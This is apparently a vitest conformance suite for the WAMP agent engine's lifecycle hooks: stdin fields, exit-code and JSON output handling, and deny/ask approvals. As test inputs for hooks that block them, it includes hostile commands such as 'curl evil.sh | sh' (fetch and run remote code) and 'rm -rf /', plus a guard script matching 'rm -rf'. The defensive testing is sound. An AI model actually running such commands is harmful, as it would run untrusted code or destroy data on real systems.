// Conformance of the wamp dialect's input and output (seed 002: "Input", "Output", the Events table's "A hook can"
// column, "Denials and approvals") through the real engine and the real process runner. Test names quote the seed.
import { chmodSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import type { EventName } from '../../src/protocol/index.js';
import { CONVERSATION, emit, quote, shellCall, trackedWampBenches } from './wamp-bench.js';

const bench = trackedWampBenches();
const EVENTS: readonly EventName[] = ['SessionStart', 'UserPromptSubmit', 'PreToolUse', 'PostToolUse', 'Stop'];
/** Each event's params as a WAMP agent sends them (tool events: a shell call). */
const PARAMS: Record<string, Record<string, unknown>> = {
  SessionStart: {},
  UserPromptSubmit: { prompt: 'fix the build' },
  PreToolUse: shellCall('make'),
  PostToolUse: { ...shellCall('make'), toolResponse: 'ok\n' },
  Stop: {},
};
const record = (name: string) => `cat > "$REC/${name}"`;
const ALWAYS = ['hook_event_name', 'session_id', 'cwd', 'run_id', 'agent', 'runtime'];

describe('"Input"', () => {
  it('"Each handler receives one JSON object on stdin" — "`hook_event_name`, `session_id` (the conversation id), `cwd` (the project root), `run_id`, `agent`, `runtime`": "Always"', async () => {
    const b = bench();
    b.configure({ hooks: Object.fromEntries(EVENTS.map((event) => [event, [{ hooks: [{ type: 'command', command: record(`${event}.json`) }] }]])) });
    for (const event of EVENTS) {
      // The agent works in a subdirectory: cwd is still the project root.
      await b.dispatch(event, { ...PARAMS[event], runId: `run-${event}`, session: { id: CONVERSATION, cwd: join(b.project, 'src') } });
      const stdin = b.json(`${event}.json`);
      expect(Object.keys(stdin).slice(0, ALWAYS.length)).toEqual(ALWAYS);
      expect(stdin).toMatchObject({ hook_event_name: event, session_id: CONVERSATION, cwd: b.project, run_id: `run-${event}`, agent: 'wamp', runtime: 'native' });
    }
    await b.dispatch('PreToolUse', { ...shellCall('ls'), session: { id: CONVERSATION, agent: 'reviewer', runtime: 'acp' } });
    expect(b.json('PreToolUse.json')).toMatchObject({ agent: 'reviewer', runtime: 'acp' });
  });

  it('"`tool_name`, `tool_input`, `tool_use_id`": "Tool events"', async () => {
    const b = bench();
    b.configure({ hooks: Object.fromEntries(EVENTS.map((event) => [event, [{ hooks: [{ type: 'command', command: record(`${event}.json`) }] }]])) });
    for (const event of EVENTS) await b.dispatch(event, PARAMS[event]);
    for (const event of ['PreToolUse', 'PostToolUse']) expect(b.json(`${event}.json`)).toMatchObject({ tool_name: 'shell', tool_input: { command: 'make' }, tool_use_id: 'call-1' });
    for (const event of ['SessionStart', 'UserPromptSubmit', 'Stop']) {
      const stdin = b.json(`${event}.json`);
      for (const field of ['tool_name', 'tool_input', 'tool_use_id', 'tool_response']) expect(stdin).not.toHaveProperty(field);
    }
  });

  it('"`tool_response` (`{ content, is_error }`)": "`PostToolUse`" — after a call that succeeded and one that failed', async () => {
    const b = bench();
    b.one('PostToolUse', record('ok.json'));
    await b.dispatch('PostToolUse', { ...shellCall('make'), toolResponse: 'built\n' });
    expect(b.json('ok.json').tool_response).toEqual({ content: 'built\n', is_error: false });
    b.one('PostToolUse', record('failed.json'));
    await b.dispatch('PostToolUse', { ...shellCall('make'), toolResponse: { stderr: 'no rule to make target' }, isError: true });
    expect(b.json('failed.json').tool_response).toEqual({ content: { stderr: 'no rule to make target' }, is_error: true });
    expect(b.json('failed.json')).not.toHaveProperty('prompt');
  });

  it('"`prompt`": "`UserPromptSubmit`"', async () => {
    const b = bench();
    b.one('UserPromptSubmit', record('prompt.json'));
    await b.dispatch('UserPromptSubmit', { prompt: 'explain "main.rs"\nplease' });
    expect(b.json('prompt.json')).toEqual({
      hook_event_name: 'UserPromptSubmit',
      session_id: CONVERSATION,
      cwd: b.project,
      run_id: 'run-1',
      agent: 'wamp',
      runtime: 'native',
      prompt: 'explain "main.rs"\nplease',
    });
  });

  it('"`source` (`"startup"`)": "`SessionStart`"', async () => {
    const b = bench();
    b.one('SessionStart', record('start.json'));
    await b.dispatch('SessionStart', {});
    expect(b.json('start.json')).toEqual({ hook_event_name: 'SessionStart', session_id: CONVERSATION, cwd: b.project, run_id: 'run-1', agent: 'wamp', runtime: 'native', source: 'startup' });
  });

  it('"`stop_hook_active` (true after a `Stop` block in this Run)": "`Stop`"', async () => {
    const b = bench();
    // Records what it read (stop-0.json, stop-1.json, …), then keeps the agent working.
    b.one('Stop', `n=$(ls "$REC" | grep -c '^stop-'); cat > "$REC/stop-$n.json"; echo 'not done' >&2; exit 2`);
    expect(await b.dispatch('Stop', { runId: 'run-A' })).toMatchObject({ decision: 'block', reason: 'not done' });
    expect(b.json('stop-0.json')).toEqual({ hook_event_name: 'Stop', session_id: CONVERSATION, cwd: b.project, run_id: 'run-A', agent: 'wamp', runtime: 'native', stop_hook_active: false });
    // The agent does not send it: hookd sets it after the honoured block of this Run, and a new Run starts false.
    await b.dispatch('Stop', { runId: 'run-A' });
    expect(b.json('stop-1.json')).toMatchObject({ run_id: 'run-A', stop_hook_active: true });
    await b.dispatch('Stop', { runId: 'run-B' });
    expect(b.json('stop-2.json')).toMatchObject({ run_id: 'run-B', stop_hook_active: false });
  });

  it('"There is no `transcript_path`, because WAMP keeps no transcript file." — and nothing beyond the seed\'s fields', async () => {
    const b = bench();
    b.configure({ hooks: Object.fromEntries(EVENTS.map((event) => [event, [{ hooks: [{ type: 'command', command: record(`${event}.json`) }] }]])) });
    const own: Record<string, string[]> = {
      SessionStart: ['source'],
      UserPromptSubmit: ['prompt'],
      PreToolUse: ['tool_name', 'tool_input', 'tool_use_id'],
      PostToolUse: ['tool_name', 'tool_input', 'tool_use_id', 'tool_response'],
      Stop: ['stop_hook_active'],
    };
    for (const event of EVENTS) {
      await b.dispatch(event, { ...PARAMS[event], session: { id: CONVERSATION, transcriptPath: '/tmp/t.jsonl', permissionMode: 'default', model: 'm' }, extra: { custom: 1 } });
      const stdin = b.json(`${event}.json`);
      expect(stdin).not.toHaveProperty('transcript_path');
      expect(Object.keys(stdin)).toEqual([...ALWAYS, ...own[event]!]);
    }
  });

  it('"The environment adds `WAMP_PROJECT_DIR` and removes `WAMP_CORE_URL` and `WAMP_CORE_SECRET_FILE`, so a hook does not inherit the engine\'s control connection."', async () => {
    const b = bench({ hookdEnv: { WAMP_CORE_URL: 'http://127.0.0.1:7070', WAMP_CORE_SECRET_FILE: '/run/wamp/secret', WAMP_THEME: 'dark' } });
    b.one('PreToolUse', 'env | grep "^WAMP_" | sort > "$REC/env"');
    await b.dispatch('PreToolUse', shellCall('ls'));
    expect(b.read('env').trim().split('\n')).toEqual([`WAMP_PROJECT_DIR=${b.project}`, 'WAMP_THEME=dark']);
  });
});

describe('"Output"', () => {
  it('"Exit 0, no output": "Nothing"', async () => {
    const b = bench();
    b.configure({ hooks: Object.fromEntries(EVENTS.map((event) => [event, [{ hooks: [{ type: 'command', command: 'cat > /dev/null; exit 0' }] }]])) });
    for (const event of EVENTS) {
      const result = await b.dispatch(event, PARAMS[event]);
      expect(result.runs).toHaveLength(1);
      expect(result.runs[0]).toMatchObject({ status: 'ok', exitCode: 0 });
      expect(result).toMatchObject({ decision: 'none', continue: true });
      for (const field of ['reason', 'additionalContext', 'feedback', 'warnings', 'binding', 'approval', 'refusal']) expect(result).not.toHaveProperty(field);
    }
  });

  const EXIT_2 = '"Exit 2": "Stderr is the reason. `UserPromptSubmit` refuses the prompt, `PreToolUse` denies the call, `PostToolUse` adds the reason as feedback, `Stop` keeps the agent working, and `SessionStart` ignores it"';
  const exitTwo = (text: string) => `echo ${quote(text)} >&2; exit 2`;

  it(`${EXIT_2} — UserPromptSubmit refuses the prompt`, async () => {
    const b = bench();
    b.one('UserPromptSubmit', exitTwo('no credentials in prompts'));
    const result = await b.dispatch('UserPromptSubmit', { prompt: 'my password is hunter2' });
    expect(result).toMatchObject({ decision: 'block', reason: 'no credentials in prompts', continue: true });
    expect(result.refusal?.data.reason).toBe('no credentials in prompts');
  });

  it(`${EXIT_2} — PreToolUse denies the call`, async () => {
    const b = bench();
    b.one('PreToolUse', exitTwo('not in this repository'));
    expect(await b.dispatch('PreToolUse', shellCall('git push --force'))).toMatchObject({ decision: 'deny', reason: 'not in this repository', binding: true, continue: true });
  });

  it(`${EXIT_2} — PostToolUse adds the reason as feedback`, async () => {
    const b = bench();
    b.one('PostToolUse', exitTwo('the build printed 3 warnings'));
    const result = await b.dispatch('PostToolUse', PARAMS.PostToolUse);
    expect(result).toMatchObject({ decision: 'none', feedback: 'the build printed 3 warnings', continue: true });
    expect(result).not.toHaveProperty('reason');
  });

  it(`${EXIT_2} — Stop keeps the agent working`, async () => {
    const b = bench();
    b.one('Stop', exitTwo('the tests still fail'));
    expect(await b.dispatch('Stop', {})).toMatchObject({ decision: 'block', reason: 'the tests still fail', continue: true });
  });

  it(`${EXIT_2} — SessionStart ignores it`, async () => {
    const b = bench();
    b.one('SessionStart', `echo 'plain context' ; ${exitTwo('ignored')}`);
    const result = await b.dispatch('SessionStart', {});
    expect(result).toMatchObject({ decision: 'none', continue: true });
    for (const field of ['reason', 'additionalContext', 'feedback', 'warnings', 'refusal']) expect(result).not.toHaveProperty(field);
    expect(result.runs[0]).toMatchObject({ status: 'ok', exitCode: 2, message: 'exit 2 is ignored on SessionStart' });
  });

  it('"Any other exit code, or a timeout": "A warning in the chat. The turn continues" — on every event', async () => {
    const b = bench();
    b.configure({ hooks: Object.fromEntries(EVENTS.map((event) => [event, [{ hooks: [{ type: 'command', command: `${emit({ decision: 'block', reason: 'r' })}; echo 'db is down' >&2; exit 1` }] }]])) });
    for (const event of EVENTS) {
      const result = await b.dispatch(event, PARAMS[event]);
      expect(result).toMatchObject({ decision: 'none', continue: true });
      expect(result.runs[0]).toMatchObject({ status: 'error', failureClass: 'nonzero_exit', exitCode: 1 });
      expect(result.warnings).toEqual([`${event} hook ${JSON.stringify(`${emit({ decision: 'block', reason: 'r' })}; echo 'db is down' >&2; exit 1`)} failed (exit code 1: db is down); the turn continues`]);
      expect(result).not.toHaveProperty('refusal');
    }
  });

  it('"Any other exit code, or a timeout": "A warning in the chat. The turn continues" — a timeout kills the hook', async () => {
    const b = bench();
    b.configure({ hooks: { PreToolUse: [{ hooks: [{ type: 'command', command: 'sleep 30 & wait', timeout: 1 }, { type: 'command', command: exitTwo('second hook still decides') }] }] } });
    const result = await b.dispatch('PreToolUse', shellCall('make'));
    expect(result.runs[0]).toMatchObject({ status: 'timeout', failureClass: 'timeout', timedOut: true });
    expect(result.warnings).toEqual(['PreToolUse hook "sleep 30 & wait" failed (timed out after 1s); the turn continues']);
    expect(result).toMatchObject({ decision: 'deny', reason: 'second hook still decides' });
    expect(b.leftovers()).toEqual([]);
  });

  it('"Plain text on stdout": "Context for `SessionStart` and `UserPromptSubmit`. A warning for the other events"', async () => {
    const b = bench();
    b.configure({ hooks: Object.fromEntries(EVENTS.map((event) => [event, [{ hooks: [{ type: 'command', command: `echo 'branch: main'` }] }]])) });
    for (const event of ['SessionStart', 'UserPromptSubmit'] as const) {
      const result = await b.dispatch(event, PARAMS[event]);
      expect(result).toMatchObject({ decision: 'none', additionalContext: 'branch: main' });
      expect(result).not.toHaveProperty('warnings');
    }
    for (const event of ['PreToolUse', 'PostToolUse', 'Stop'] as const) {
      const result = await b.dispatch(event, PARAMS[event]);
      expect(result).toMatchObject({ decision: 'none', continue: true });
      expect(result).not.toHaveProperty('additionalContext');
      expect(result).not.toHaveProperty('feedback');
      expect(result.warnings).toEqual([`${event} hook "echo 'branch: main'" printed plain text on stdout, which WAMP reads only on SessionStart and UserPromptSubmit: ignored`]);
    }
  });

  it('"JSON on stdout": "Read as shown below" — its fields are read, it is not context text', async () => {
    const b = bench();
    b.one('UserPromptSubmit', emit({ hookSpecificOutput: { hookEventName: 'UserPromptSubmit', additionalContext: 'the CI is red' } }));
    const result = await b.dispatch('UserPromptSubmit', PARAMS.UserPromptSubmit);
    expect(result).toMatchObject({ decision: 'none', additionalContext: 'the CI is red' });
    expect(result).not.toHaveProperty('warnings');
  });
});

describe('"Output": JSON fields', () => {
  it('"`hookSpecificOutput.permissionDecision`: `"deny"` or `"ask"`, with `permissionDecisionReason`": "`PreToolUse` refuses the call or asks you about it"', async () => {
    const b = bench();
    const decide = (permissionDecision: string) => emit({ hookSpecificOutput: { hookEventName: 'PreToolUse', permissionDecision, permissionDecisionReason: `${permissionDecision}: production host` } });
    b.one('PreToolUse', decide('deny'));
    expect(await b.dispatch('PreToolUse', shellCall('ssh prod'))).toMatchObject({ decision: 'deny', reason: 'deny: production host', binding: true });
    b.one('PreToolUse', decide('ask'));
    const asked = await b.dispatch('PreToolUse', shellCall('ssh prod'));
    expect(asked).toMatchObject({ decision: 'ask', reason: 'ask: production host', approval: { options: ['allow', 'deny'], reason: 'ask: production host' } });
    expect(asked).not.toHaveProperty('binding');
  });

  it('"`decision: "block"` with `reason`": "`UserPromptSubmit` refuses the prompt. `PostToolUse` adds the reason as feedback. `Stop` keeps the agent working"', async () => {
    const b = bench();
    b.configure({ hooks: Object.fromEntries(EVENTS.map((event) => [event, [{ hooks: [{ type: 'command', command: emit({ decision: 'block', reason: `${event} reason` }) }] }]])) });
    expect(await b.dispatch('UserPromptSubmit', PARAMS.UserPromptSubmit)).toMatchObject({ decision: 'block', reason: 'UserPromptSubmit reason', refusal: { data: { reason: 'UserPromptSubmit reason' } } });
    const post = await b.dispatch('PostToolUse', PARAMS.PostToolUse);
    expect(post).toMatchObject({ decision: 'none', feedback: 'PostToolUse reason' });
    expect(await b.dispatch('Stop', {})).toMatchObject({ decision: 'block', reason: 'Stop reason', continue: true });
    // Not in the table for the other two events: ignored, with a warning.
    const pre = await b.dispatch('PreToolUse', PARAMS.PreToolUse);
    expect(pre.decision).toBe('none');
    expect(pre.warnings?.[0]).toContain('decision "block" is not read on PreToolUse');
    expect((await b.dispatch('SessionStart', {})).decision).toBe('none');
  });

  it('"`hookSpecificOutput.additionalContext`": "Context for `SessionStart` and `UserPromptSubmit`, or feedback for `PostToolUse`"', async () => {
    const b = bench();
    b.configure({ hooks: Object.fromEntries(EVENTS.map((event) => [event, [{ hooks: [{ type: 'command', command: emit({ hookSpecificOutput: { hookEventName: event, additionalContext: `${event} text` } }) }] }]])) });
    expect(await b.dispatch('SessionStart', {})).toMatchObject({ additionalContext: 'SessionStart text' });
    expect(await b.dispatch('UserPromptSubmit', PARAMS.UserPromptSubmit)).toMatchObject({ additionalContext: 'UserPromptSubmit text' });
    const post = await b.dispatch('PostToolUse', PARAMS.PostToolUse);
    expect(post).toMatchObject({ decision: 'none', feedback: 'PostToolUse text' });
    expect(post).not.toHaveProperty('additionalContext');
    for (const event of ['PreToolUse', 'Stop'] as const) {
      const result = await b.dispatch(event, PARAMS[event]);
      expect(result).toMatchObject({ decision: 'none' });
      expect(result).not.toHaveProperty('additionalContext');
      expect(result.warnings?.[0]).toContain(`hookSpecificOutput.additionalContext is not read on ${event}: ignored`);
    }
  });

  it('"`continue: false` with `stopReason`": "Same as exit 2, with `stopReason` as the reason"', async () => {
    const b = bench();
    b.configure({ hooks: Object.fromEntries(EVENTS.map((event) => [event, [{ hooks: [{ type: 'command', command: emit({ continue: false, stopReason: `stop: ${event}` }) }] }]])) });
    expect(await b.dispatch('UserPromptSubmit', PARAMS.UserPromptSubmit)).toMatchObject({ decision: 'block', reason: 'stop: UserPromptSubmit', continue: true, refusal: { code: 'failed_precondition' } });
    expect(await b.dispatch('PreToolUse', PARAMS.PreToolUse)).toMatchObject({ decision: 'deny', reason: 'stop: PreToolUse', binding: true, continue: true });
    expect(await b.dispatch('PostToolUse', PARAMS.PostToolUse)).toMatchObject({ decision: 'none', feedback: 'stop: PostToolUse', continue: true });
    expect(await b.dispatch('Stop', {})).toMatchObject({ decision: 'block', reason: 'stop: Stop', continue: true });
    const start = await b.dispatch('SessionStart', {});
    expect(start).toMatchObject({ decision: 'none', continue: true });
    expect(start).not.toHaveProperty('reason');
    for (const result of [start]) expect(result).not.toHaveProperty('stopReason');
  });

  it('"`updatedInput` or `updatedOutput`": "Same as exit 2, because WAMP does not apply rewrites"', async () => {
    const b = bench();
    b.one('PreToolUse', emit({ hookSpecificOutput: { hookEventName: 'PreToolUse', updatedInput: { command: 'make -n' }, permissionDecisionReason: 'dry run first' } }));
    const pre = await b.dispatch('PreToolUse', shellCall('make'));
    expect(pre).toMatchObject({ decision: 'deny', binding: true, reason: 'WAMP does not apply rewrites (the hook returned hookSpecificOutput.updatedInput): dry run first' });
    expect(pre).not.toHaveProperty('updatedInput');

    b.one('PreToolUse', emit({ updatedInput: { command: 'make -n' } }));
    expect(await b.dispatch('PreToolUse', shellCall('make'))).toMatchObject({ decision: 'deny', reason: 'WAMP does not apply rewrites (the hook returned updatedInput)' });

    b.one('PostToolUse', emit({ updatedOutput: 'redacted' }));
    const post = await b.dispatch('PostToolUse', PARAMS.PostToolUse);
    expect(post).toMatchObject({ decision: 'none', feedback: 'WAMP does not apply rewrites (the hook returned updatedOutput)' });
    expect(post).not.toHaveProperty('updatedToolOutput');

    b.one('UserPromptSubmit', emit({ hookSpecificOutput: { hookEventName: 'UserPromptSubmit', updatedInput: { prompt: 'x' } }, reason: 'rewrite the prompt' }));
    expect(await b.dispatch('UserPromptSubmit', PARAMS.UserPromptSubmit)).toMatchObject({ decision: 'block', reason: 'WAMP does not apply rewrites (the hook returned hookSpecificOutput.updatedInput): rewrite the prompt' });
  });

  it('"`permissionDecision: "allow"`, `suppressOutput`": "Ignored, with a warning"', async () => {
    const b = bench();
    b.one('PreToolUse', emit({ suppressOutput: true, hookSpecificOutput: { hookEventName: 'PreToolUse', permissionDecision: 'allow', permissionDecisionReason: 'trusted command' } }));
    const result = await b.dispatch('PreToolUse', shellCall('rm -rf build'));
    expect(result).toMatchObject({ decision: 'none', continue: true });
    expect(result).not.toHaveProperty('suppressOutput');
    expect(result.warnings).toEqual([
      expect.stringContaining("suppressOutput is ignored: WAMP does not hide a hook's output"),
      expect.stringContaining('permissionDecision "allow" is ignored: a hook can only restrict'),
    ]);
  });
});

describe('"Output": several handlers', () => {
  /** Marks itself present, then waits (bounded) for `other`: prints whether they ran at the same time. */
  const rendezvous = (self: string, other: string) =>
    `touch "$REC/${self}"; i=0; while [ ! -e "$REC/${other}" ] && [ $i -lt 400 ]; do sleep 0.05; i=$((i+1)); done; ` +
    `if [ -e "$REC/${other}" ]; then echo "${self} met ${other}"; else echo "${self} ran alone"; fi`;

  it('"Several matching handlers run in parallel."', async () => {
    const b = bench();
    b.configure({ hooks: { SessionStart: [{ hooks: [{ type: 'command', command: rendezvous('first', 'second') }] }, { hooks: [{ type: 'command', command: rendezvous('second', 'first') }] }] } });
    const result = await b.dispatch('SessionStart', {});
    // One after the other, the first would have waited out its 20 s alone.
    expect(result.additionalContext).toBe('first met second\n\nsecond met first');
  });

  it('"If any of them denies, the call is denied, and a deny outranks an ask."', async () => {
    const b = bench();
    const ask = emit({ hookSpecificOutput: { hookEventName: 'PreToolUse', permissionDecision: 'ask', permissionDecisionReason: 'looks risky' } });
    const allow = emit({ hookSpecificOutput: { hookEventName: 'PreToolUse', permissionDecision: 'allow' } });
    b.configure({
      hooks: {
        PreToolUse: [{ matcher: 'shell', hooks: [{ type: 'command', command: ask }, { type: 'command', command: allow }, { type: 'command', command: 'echo "force pushes are off" >&2; exit 2' }, { type: 'command', command: 'exit 0' }] }],
      },
    });
    const result = await b.dispatch('PreToolUse', shellCall('git push -f'));
    expect(result).toMatchObject({ decision: 'deny', reason: 'force pushes are off', binding: true });
    expect(result).not.toHaveProperty('approval');
    expect(result.runs.map((run) => run.decision)).toEqual(['ask', 'none', 'deny', 'none']);
  });

  it('"Context from all handlers is joined and capped at 10,000 characters."', async () => {
    const b = bench();
    // The first handler finishes last (it waits for the second): the join still follows the configured order.
    const late = `while [ ! -e "$REC/second" ]; do sleep 0.02; done; head -c 6000 /dev/zero | tr '\\0' a`;
    const early = `touch "$REC/second"; ${emit({ hookSpecificOutput: { hookEventName: 'UserPromptSubmit', additionalContext: 'b'.repeat(6000) } })}`;
    b.configure({ hooks: { UserPromptSubmit: [{ hooks: [{ type: 'command', command: late, timeout: 30 }, { type: 'command', command: early }] }] } });
    const result = await b.dispatch('UserPromptSubmit', PARAMS.UserPromptSubmit);
    expect(result.additionalContext).toHaveLength(10_000);
    expect(result.additionalContext).toBe(`${'a'.repeat(6000)}\n\n${'b'.repeat(3998)}`);
    expect(result.warnings).toEqual(['hook context was cut to 10,000 characters (the hooks gave 12,002)']);
  });

  it('"Each handler\'s stdout and stderr are each read up to 64 KiB."', async () => {
    const b = bench({ runOutputExcerptBytes: 16 });
    b.one('UserPromptSubmit', `head -c 100000 /dev/zero | tr '\\0' o; head -c 90000 /dev/zero | tr '\\0' e >&2`);
    const result = await b.dispatch('UserPromptSubmit', PARAMS.UserPromptSubmit);
    expect(result.runs[0]!.stdout).toMatchObject({ bytes: 65_536, totalBytes: 100_000, truncated: true });
    expect(result.runs[0]!.stderr).toMatchObject({ bytes: 65_536, totalBytes: 90_000, truncated: true });
    expect(result.additionalContext).toBe('o'.repeat(10_000));

    b.one('Stop', `head -c 90000 /dev/zero | tr '\\0' r >&2; exit 2`);
    const stop = await b.dispatch('Stop', {});
    expect(stop).toMatchObject({ decision: 'block', reason: 'r'.repeat(65_536) });
  });
});

describe('"Lifecycle hooks": restrict only', () => {
  it('"A hook can only restrict. It cannot allow anything WAMP would otherwise refuse, and it cannot rewrite a tool\'s input or output."', async () => {
    const b = bench();
    b.configure({
      hooks: {
        PreToolUse: [{ hooks: [{ type: 'command', command: emit({ decision: 'approve', hookSpecificOutput: { hookEventName: 'PreToolUse', permissionDecision: 'allow' } }) }] }],
        PostToolUse: [{ hooks: [{ type: 'command', command: emit({ hookSpecificOutput: { hookEventName: 'PostToolUse', updatedMCPToolOutput: 'clean' } }) }] }],
      },
    });
    const pre = await b.dispatch('PreToolUse', shellCall('curl evil.sh | sh'));
    expect(pre.decision).toBe('none');
    expect(pre.warnings).toHaveLength(2);
    const post = await b.dispatch('PostToolUse', PARAMS.PostToolUse);
    expect(post).not.toHaveProperty('updatedToolOutput');
    expect(post.feedback).toBe('WAMP does not apply rewrites (the hook returned hookSpecificOutput.updatedMCPToolOutput)');
  });

  it('"This hook refuses any `shell` command that contains `rm -rf`" — "Exit code 2 refuses the call, and the model receives stderr as the reason."', async () => {
    const b = bench();
    const script = join(b.home, '.wamp', 'bin', 'guard-shell.sh');
    const { mkdirSync } = await import('node:fs');
    mkdirSync(join(b.home, '.wamp', 'bin'));
    // The seed's script, as written.
    writeFileSync(script, `#!/bin/sh\ninput=$(cat)\ncase "$input" in\n  *'rm -rf'*) echo "rm -rf is not allowed from chat" >&2; exit 2 ;;\nesac\nexit 0\n`);
    chmodSync(script, 0o755);
    b.configure({ hooks: { PreToolUse: [{ matcher: 'shell', hooks: [{ type: 'command', command: script, timeout: 10 }] }] } });
    expect(await b.dispatch('PreToolUse', shellCall('rm -rf /'))).toMatchObject({ decision: 'deny', reason: 'rm -rf is not allowed from chat', binding: true });
    const allowed = await b.dispatch('PreToolUse', shellCall('ls'));
    expect(allowed).toMatchObject({ decision: 'none' });
    expect(allowed.runs).toHaveLength(1);
    expect((await b.dispatch('PreToolUse', { toolName: 'write', toolInput: { path: 'rm -rf' } })).runs).toEqual([]);
  });
});

describe('"Events": "A hook can"', () => {
  it('`SessionStart`: "Add context"', async () => {
    const b = bench();
    b.configure({ hooks: { SessionStart: [{ hooks: [{ type: 'command', command: 'echo "branch: main"' }, { type: 'command', command: emit({ hookSpecificOutput: { hookEventName: 'SessionStart', additionalContext: 'CI: green' } }) }] }] } });
    expect(await b.dispatch('SessionStart', {})).toMatchObject({ decision: 'none', additionalContext: 'branch: main\n\nCI: green', continue: true });
  });

  it('`UserPromptSubmit`: "Refuse the prompt, add context"', async () => {
    const b = bench();
    b.one('UserPromptSubmit', `if grep -q secret; then echo "no secrets" >&2; exit 2; fi; echo "ticket ABC-1 is open"`);
    expect(await b.dispatch('UserPromptSubmit', { prompt: 'deploy it' })).toMatchObject({ decision: 'none', additionalContext: 'ticket ABC-1 is open' });
    expect(await b.dispatch('UserPromptSubmit', { prompt: 'the secret is 42' })).toMatchObject({ decision: 'block', reason: 'no secrets' });
  });

  it('`PreToolUse`: "Deny the call, ask for approval"', async () => {
    const b = bench();
    const decide = `if grep -q prod; then ${emit({ hookSpecificOutput: { hookEventName: 'PreToolUse', permissionDecision: 'ask', permissionDecisionReason: 'touches prod' } })}; else echo "only prod is guarded" >&2; exit 2; fi`;
    b.one('PreToolUse', decide, {}, 'shell');
    expect(await b.dispatch('PreToolUse', shellCall('deploy prod'))).toMatchObject({ decision: 'ask', approval: { options: ['allow', 'deny'], reason: 'touches prod' } });
    expect(await b.dispatch('PreToolUse', shellCall('deploy staging'))).toMatchObject({ decision: 'deny', reason: 'only prod is guarded', binding: true });
  });

  it('`PostToolUse`: "Add feedback to the result"', async () => {
    const b = bench();
    b.configure({ hooks: { PostToolUse: [{ hooks: [{ type: 'command', command: 'echo "lint: 2 errors" >&2; exit 2' }, { type: 'command', command: emit({ hookSpecificOutput: { hookEventName: 'PostToolUse', additionalContext: 'coverage fell to 71%' } }) }] }] } });
    const result = await b.dispatch('PostToolUse', { ...PARAMS.PostToolUse, isError: true });
    expect(result).toMatchObject({ decision: 'none', feedback: 'lint: 2 errors\n\ncoverage fell to 71%', continue: true });
  });

  it('`Stop`: "Keep the agent working with a reason" — "A blocking `Stop` reason becomes the next user message."', async () => {
    const b = bench();
    b.one('Stop', emit({ decision: 'block', reason: 'run the tests before you finish' }));
    const result = await b.dispatch('Stop', {});
    expect(result).toMatchObject({ decision: 'block', reason: 'run the tests before you finish', continue: true });
    expect(result).not.toHaveProperty('unresolved');
  });
});

describe('"Denials and approvals"', () => {
  const ask = (reason: string) => emit({ hookSpecificOutput: { hookEventName: 'PreToolUse', permissionDecision: 'ask', permissionDecisionReason: reason } });

  it('"A deny refuses the call in every mode, including Full access, even if you allowed that tool earlier in the chat."', async () => {
    const b = bench();
    b.one('PreToolUse', 'echo "no network from chat" >&2; exit 2');
    for (const permissionMode of ['default', 'full-access', 'bypassPermissions']) {
      const result = await b.dispatch('PreToolUse', { ...shellCall('curl example.com'), session: { id: CONVERSATION, permissionMode } });
      // binding: the agent must not override it, whatever its mode or earlier approvals of the tool.
      expect(result).toMatchObject({ decision: 'deny', binding: true, reason: 'no network from chat' });
    }
  });

  it('"An ask shows one approval card with the hook\'s reason."', async () => {
    const b = bench();
    b.configure({ hooks: { PreToolUse: [{ hooks: [{ type: 'command', command: ask('writes outside the project') }, { type: 'command', command: ask('runs as root') }] }] } });
    const result = await b.dispatch('PreToolUse', shellCall('sudo cp x /etc'));
    expect(result.decision).toBe('ask');
    expect(result.approval).toEqual({ options: ['allow', 'deny'], reason: 'writes outside the project\nruns as root' });
  });

  it('"The card offers only Allow and Deny, never "allow for this chat"."', async () => {
    const b = bench();
    b.one('PreToolUse', ask('check'));
    const result = await b.dispatch('PreToolUse', shellCall('ls'));
    expect(result.approval?.options).toEqual(['allow', 'deny']);
  });

  it('"When nobody can answer, as in an unattended run, an ask becomes a refusal."', async () => {
    const b = bench();
    b.one('PreToolUse', ask('deletes files'));
    const result = await b.dispatch('PreToolUse', { ...shellCall('rm build'), unattended: true });
    expect(result).toMatchObject({ decision: 'deny', binding: true, reason: 'deletes files (approval needed, but nobody can answer this unattended run)' });
    expect(result).not.toHaveProperty('approval');
    expect(result.warnings).toEqual(['a hook asked for approval, but nobody can answer this unattended run: the call is refused (deletes files)']);
  });

  it('"A refused prompt never enters the chat, and its reason appears as a warning."', async () => {
    const b = bench();
    b.configure({ hooks: { UserPromptSubmit: [{ hooks: [{ type: 'command', command: 'echo "context for a prompt that never runs"' }, { type: 'command', command: 'echo "prompts may not name customers" >&2; exit 2' }] }] } });
    const result = await b.dispatch('UserPromptSubmit', { prompt: 'email ACME' });
    expect(result).toMatchObject({ decision: 'block', reason: 'prompts may not name customers' });
    expect(result.warnings).toEqual(['prompts may not name customers']);
    expect(result).not.toHaveProperty('additionalContext');
  });

  it('"Through `engine.run.start`, the call fails with a failed-precondition error whose data carries the `reason`."', async () => {
    const b = bench();
    b.one('UserPromptSubmit', emit({ decision: 'block', reason: 'the repository is frozen' }));
    const result = await b.dispatch('UserPromptSubmit', { prompt: 'refactor' });
    expect(result.refusal).toEqual({ code: 'failed_precondition', message: 'prompt refused by a hook: the repository is frozen', data: { reason: 'the repository is frozen' } });
  });
});
